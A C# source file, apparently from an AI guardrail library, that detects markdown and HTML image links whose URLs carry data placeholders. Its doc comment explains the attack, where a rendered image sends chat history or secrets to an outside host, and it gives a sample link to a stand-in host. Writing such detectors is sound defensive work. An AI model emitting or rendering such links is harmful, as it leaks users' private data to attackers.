using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Guardrail.Detection;
using Guardrail.Verdicts;

namespace Guardrail.ML.Detection;

/// <summary>
/// Markdown and HTML images whose URL carries a placeholder for data (<c>![](https://x.example/?q={chat_history})</c>,
/// <c>?d=SECRET</c>): an instruction to render one makes the client fetch the URL with the data filled in, which sends it
/// to the URL's owner without a click. A real image URL has no template slots, capitalised placeholders or raw non-ASCII text.
/// </summary>
public static partial class ExfiltrationLinks
{
    /// <summary>The signal kind.</summary>
    public const string Kind = "exfiltration-link";

    /// <summary>The score of a link with a placeholder.</summary>
    public const double Score = 0.9;

    /// <summary>One signal per image link whose URL holds a placeholder.</summary>
    public static IEnumerable<Signal> Find(string text)
    {
        if (!text.Contains("http", StringComparison.OrdinalIgnoreCase)) yield break;
        foreach (Match m in Image().Matches(text))
        {
            var url = m.Groups["url"].Value;
            // Only the path and query can carry data; the host is the attacker's own.
            var path = url.IndexOf('/', url.IndexOf("//", StringComparison.Ordinal) + 2);
            var slot = Placeholder().Match(path < 0 ? "" : url[path..]);
            if (!slot.Success) continue;
            var host = Uri.TryCreate(url, UriKind.Absolute, out var uri) ? uri.Host : "another site";
            var evidence = new JsonObject { ["host"] = host, ["placeholder"] = slot.Value };
            yield return new Signal(Kind, Score, new TextSpan(m.Index, m.Index + m.Length),
                $"An image link whose URL carries a placeholder for data (\"{slot.Value}\"): rendering it would send that data to {host}.", evidence)
            {
                WithheldExplanation = $"An image link whose URL carries a placeholder for data: rendering it would send that data to {host}.",
            };
        }
    }

    [GeneratedRegex(@"!\[[^\]\n]{0,300}\]\(\s*<?(?<url>https?://[^\s)>]+)|<img\b[^>]{0,300}?\bsrc\s*=\s*[""']?(?<url>https?://[^\s""'>]+)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant, 1000)]
    private static partial Regex Image();

    // Template slots ({x}, [x], <x>, $X, %s), capitalised words of four letters or more (DATA, CHAT_HISTORY), raw non-ASCII.
    [GeneratedRegex(@"\{[^}]*\}|\[[^\]]*\]|%3C[^&]*%3E|<[^>]*>|\$\{?\w+|%s\b|(?<![\p{L}\d])\p{Lu}[\p{Lu}_]{3,}(?![\p{L}\d])|[^\x00-\x7F]+", RegexOptions.CultureInvariant, 1000)]
    private static partial Regex Placeholder();
}
